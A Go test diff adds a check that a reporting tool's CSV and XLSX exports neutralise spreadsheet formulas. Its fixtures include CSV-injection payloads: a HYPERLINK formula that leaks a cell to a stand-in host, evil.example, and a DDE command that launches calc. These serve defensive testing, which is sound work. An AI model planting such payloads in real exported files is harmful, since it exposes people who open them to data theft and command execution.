@@ -231,3 +231,108 @@ func TestSummaryCommand(t *testing.T) {
 		t.Error("no -scope: no error")
 	}
 }
+
+// Cells a spreadsheet would run as formulas (CSV injection) are written as
+// text: CSV with a leading apostrophe, XLSX as plain string cells. The
+// ledgers go through the real export path (admin API and runExport) and
+// are read back from the files.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	url, db := apiServer(t)
+	ctx := context.Background()
+	if err := db.PutWorker(ctx, flows.Worker{OpenID: "o-x", Name: "@王芳", Community: "幸福社区", Grid: "1", Role: flows.RoleWorker}); err != nil {
+		t.Fatal(err)
+	}
+	notes := []string{
+		`=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
+		"+1+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(1,2)",
+		"\t=1+1",
+		"\r=1+1",
+		"正常备注 =1", // not at the start: unchanged
+	}
+	for i, note := range notes {
+		_, _, err := db.SaveReport(ctx, flows.Report{
+			MsgKey: fmt.Sprint("f", i), Worker: "o-x", Community: "幸福社区", Grid: "1", Flow: "visit", Kind: "chronic",
+			Day: fmt.Sprintf("2026-11-%02d", i+1), Target: fmt.Sprintf("3-2-%d", 100+i), Fields: map[string]string{"note": note},
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	dir := t.TempDir()
+	export := func(file string) []byte {
+		t.Helper()
+		var stdout, stderr bytes.Buffer
+		args := []string{"-server", url, "-token", exportToken, "-scope", "community:幸福社区", "-period", "2026-11", "-out", file}
+		if err := runExport(ctx, args, &stdout, &stderr); err != nil {
+			t.Fatalf("export %s: %v\n%s", file, err, stderr.String())
+		}
+		data, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return data
+	}
+
+	data := export(filepath.Join(dir, "l.csv"))
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xEF\xBB\xBF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := func(header string) int {
+		for i, h := range rows[0] {
+			if h == header {
+				return i
+			}
+		}
+		t.Fatalf("no column %q in %q", header, rows[0])
+		return -1
+	}
+	noteCol, nameCol, dayCol := col("备注"), col("网格员"), col("日期")
+	if len(rows) != len(notes)+1 {
+		t.Fatalf("%d rows, want %d", len(rows), len(notes)+1)
+	}
+	for i, note := range notes {
+		want := "'" + note
+		if i == len(notes)-1 {
+			want = note
+		}
+		// encoding/csv reads a lone CR in a quoted field as nothing, as Excel does.
+		if got := rows[i+1][noteCol]; got != strings.ReplaceAll(want, "\r", "") {
+			t.Errorf("CSV note %d = %q, want %q", i, got, want)
+		}
+		if got := rows[i+1][nameCol]; got != "'@王芳" {
+			t.Errorf("CSV name = %q, want '@王芳", got)
+		}
+		if got := rows[i+1][dayCol]; got != fmt.Sprintf("2026-11-%02d", i+1) {
+			t.Errorf("CSV day = %q: a date must stay as it is", got)
+		}
+	}
+
+	data = export(filepath.Join(dir, "l.xlsx"))
+	x, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer x.Close()
+	got, err := x.GetRows("入户走访")
+	if err != nil || len(got) != len(notes)+1 {
+		t.Fatalf("XLSX rows: %d, %v", len(got), err)
+	}
+	noteX := -1
+	for i, h := range got[0] {
+		if h == "备注" {
+			noteX = i
+		}
+	}
+	for i, note := range notes {
+		cell, _ := excelize.CoordinatesToCellName(noteX+1, i+2)
+		v, _ := x.GetCellValue("入户走访", cell)
+		formula, _ := x.GetCellFormula("入户走访", cell)
+		typ, _ := x.GetCellType("入户走访", cell)
+		if v != strings.ReplaceAll(note, "\r", "\n") && v != note || formula != "" || typ != excelize.CellTypeInlineString {
+			t.Errorf("XLSX %s = %q (formula %q, type %v), want the text %q as an inline string", cell, v, formula, typ, note)
+		}
+	}
+}
